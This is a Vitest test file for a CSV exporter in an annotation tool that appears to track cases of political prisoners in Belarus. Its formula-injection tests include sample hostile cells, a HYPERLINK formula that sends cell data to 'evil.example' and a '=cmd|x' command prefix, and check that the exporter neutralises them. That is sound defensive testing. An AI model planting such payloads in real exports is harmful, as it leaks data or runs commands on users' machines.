import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, formatLegalArticle, neutralizeFormula, toCsv } from '@/lib/export/csv';
import type { RecordSet } from '@/lib/schema/envelope';
import { makeAnnotation, makeCase, makePerson, makeRecordSet, makeSource } from '@/tests/support/records';
import { recordSet } from '../../support/arbitraries';

/** The CSV as a spreadsheet reads it: rows of cells, the BOM set aside. */
function parse(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  // The delimiter is stated: left to guess, Papaparse samples the rows and, on cells full of odd
  // characters, may pick another one and report the file as malformed (seed -874244849 did).
  const result = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', delimiter: ',' });
  expect(result.errors).toEqual([]);
  // The file ends with a line break, which Papaparse reads as one empty row.
  expect(result.data.at(-1)).toEqual(['']);
  return result.data.slice(0, -1);
}

/** The data rows as objects keyed by column title. */
function rows(csv: string): Record<string, string>[] {
  const [head, ...body] = parse(csv);
  expect(head).toEqual([...CSV_COLUMNS]);
  return body.map((cells) => Object.fromEntries(cells.map((cell, i) => [CSV_COLUMNS[i], cell])));
}

function oneAnnotation(overrides: Parameters<typeof makeAnnotation>[1]): RecordSet {
  const source = makeSource();
  return { sources: [source], annotations: [makeAnnotation(source.id, overrides)], persons: [], cases: [] };
}

describe('toCsv', () => {
  it('writes one row per annotation with names, titles and the source spelled out', () => {
    const set = makeRecordSet();
    const [mention, fact] = rows(toCsv(set));
    expect(mention).toMatchObject({
      'annotation id': set.annotations[0]?.id,
      created: '2026-11-22T10:03:00.000Z',
      creator: 'Alesia K.',
      kind: 'person',
      quote: 'Zinaida Mikhniuk',
      prefix: 'om social networks\n      \n      ',
      suffix: ', a trade union activist, was de',
      tags: 'released',
      persons: 'Zinaida Mikhniuk',
      cases: '',
      'fact event type': '',
      'source title': set.sources[0]?.title,
      'site name': 'Belarus Rights Monitor',
      'source URL': 'http://127.0.0.1:5179/release-digest.html?utm_source=feed',
      'canonical URL': set.sources[0]?.canonicalUrl,
      published: '2024-02-02T12:47:42+03:00',
      anchoring: 'anchored',
    });
    expect(fact).toMatchObject({
      kind: 'fact',
      quote: 'Part 1 of Article 368 of the Criminal Code',
      prefix: 'with insulting Lukashenka under ',
      note: 'Charge; sentence handed down in May 2022.',
      cases: 'Mikhniuk: insulting the head of state',
      'fact event type': 'charge',
      'fact date': '',
      'fact place': 'Brest',
      'legal article': 'Part 1 of Article 368 of the Criminal Code',
    });
  });

  it('starts with a UTF-8 BOM and ends every line with CRLF', () => {
    // Page text can hold line breaks; they stay inside quoted cells, so use context without any here.
    const set = makeRecordSet();
    const flat = {
      ...set,
      annotations: set.annotations.map((a) => ({
        ...a,
        selectors: a.selectors.map((sel) => (sel.type === 'TextQuoteSelector' ? { ...sel, prefix: 'context ' } : sel)),
      })),
    };
    const csv = toCsv(flat);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith('"\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(4); // header, two rows, and the empty rest after the last CRLF
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('writes only the header for no annotations', () => {
    expect(parse(toCsv({ sources: [], annotations: [], persons: [], cases: [] }))).toEqual([[...CSV_COLUMNS]]);
  });

  it('keeps Cyrillic, RTL, emoji, quotes, commas and line breaks intact', () => {
    const note = 'Сказала: "вызваліце ўсіх", потым —\nновы радок, ; і ўсё 👩🏽‍⚖️ محمد\r\nשלום';
    const [row] = rows(toCsv(oneAnnotation({ note, tags: ['a, b', 'c "d"', 'Ж'] })));
    expect(row?.note).toBe(note);
    expect(row?.tags).toBe('a, b; c "d"; Ж');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1, "click")', `'=HYPERLINK("http://evil.example/?"&A1, "click")`],
    ['@SUM(1)', "'@SUM(1)"],
    ['-2+3', "'-2+3"],
    ['+7 (029) 123', "'+7 (029) 123"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['=1+1\nand more text', "'=1+1\nand more text"],
    ['＝1+1', "'＝1+1"],
    ['a = b - c', 'a = b - c'],
  ])('neutralises a formula-like quote: %j', (exact, shown) => {
    const [row] = rows(
      toCsv(oneAnnotation({ selectors: [{ type: 'TextQuoteSelector', exact, prefix: '=cmd|x', suffix: '@x' }] })),
    );
    expect(row?.quote).toBe(shown);
    expect(row?.prefix).toBe("'=cmd|x");
    expect(row?.suffix).toBe("'@x");
  });

  it('neutralises every column, names and page metadata included', () => {
    const source = makeSource({ title: '=1+1', siteName: '@evil' });
    const person = makePerson({ name: '-Ivanou' });
    const kase = makeCase({ title: '+case' });
    const a = makeAnnotation(source.id, {
      personIds: [person.id],
      caseIds: [kase.id],
      note: '=note',
      tags: ['@tag'],
      creator: '-me',
    });
    const [row] = rows(toCsv({ sources: [source], annotations: [a], persons: [person], cases: [kase] }));
    expect(row).toMatchObject({
      'source title': "'=1+1",
      'site name': "'@evil",
      persons: "'-Ivanou",
      cases: "'+case",
      note: "'=note",
      tags: "'@tag",
      creator: "'-me",
    });
  });

  it('joins several tags, persons and cases with "; " in the annotation\'s order', () => {
    const source = makeSource();
    const [p1, p2] = [makePerson({ name: 'Zinaida Mikhniuk' }), makePerson({ name: 'Ales Bialiatski' })];
    const [c1, c2] = [makeCase({ title: 'Case A' }), makeCase({ title: 'Case B' })];
    const a = makeAnnotation(source.id, { personIds: [p2.id, p1.id], caseIds: [c2.id, c1.id], tags: ['x', 'y', 'z'] });
    const [row] = rows(toCsv({ sources: [source], annotations: [a], persons: [p1, p2], cases: [c1, c2] }));
    expect(row).toMatchObject({
      persons: 'Ales Bialiatski; Zinaida Mikhniuk',
      cases: 'Case B; Case A',
      tags: 'x; y; z',
    });
  });

  it('shows the id of a link that does not resolve rather than dropping it', () => {
    const set = oneAnnotation({ personIds: ['00000000-0000-4000-8000-0000000000ff'] });
    expect(rows(toCsv(set))[0]?.persons).toBe('00000000-0000-4000-8000-0000000000ff');
  });

  it('fills the fact columns, term and legal article included', () => {
    const fact = {
      eventType: 'sentence' as const,
      date: '2022-05',
      place: 'Brest',
      legalArticle: { code: 'Code of Administrative Offenses', article: '24.23', part: null },
      term: { text: 'two years in a penal colony', years: 2, months: 0, days: 0 },
    };
    const [row] = rows(toCsv(oneAnnotation({ kind: 'fact', fact })));
    expect(row).toMatchObject({
      'fact event type': 'sentence',
      'fact date': '2022-05',
      'fact place': 'Brest',
      'legal article': 'Article 24.23 of the Code of Administrative Offenses',
      term: 'two years in a penal colony',
    });
  });

  it('has as many rows as annotations and survives any text (property)', () => {
    fc.assert(
      fc.property(recordSet, (set) => {
        const data = rows(toCsv(set));
        expect(data).toHaveLength(set.annotations.length);
        data.forEach((row, i) => {
          const a = set.annotations[i];
          expect(row['annotation id']).toBe(a?.id);
          expect(row.note).toBe(neutralizeFormula(a?.note ?? ''));
        });
      }),
      { numRuns: 80 },
    );
  });
});

describe('formatLegalArticle', () => {
  it('cites a provision as the reviews do', () => {
    expect(formatLegalArticle({ code: 'Criminal Code', article: '368', part: '1' })).toBe(
      'Part 1 of Article 368 of the Criminal Code',
    );
    expect(formatLegalArticle({ code: 'Criminal Code', article: '361-1', part: null })).toBe(
      'Article 361-1 of the Criminal Code',
    );
  });
});
